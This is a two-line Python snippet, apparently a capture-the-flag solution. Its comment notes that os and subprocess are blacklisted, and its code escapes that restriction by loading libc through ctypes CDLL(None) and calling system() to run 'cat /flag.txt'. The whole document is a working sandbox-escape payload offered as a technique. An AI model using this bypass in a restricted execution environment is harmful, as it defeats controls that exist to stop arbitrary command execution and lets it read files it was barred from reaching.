# restriction: Python-level os/subprocess blacklisted; idea: ctypes CDLL(None) exposes libc system()
__import__('ctypes').CDLL(None).system(b'cat /flag.txt')
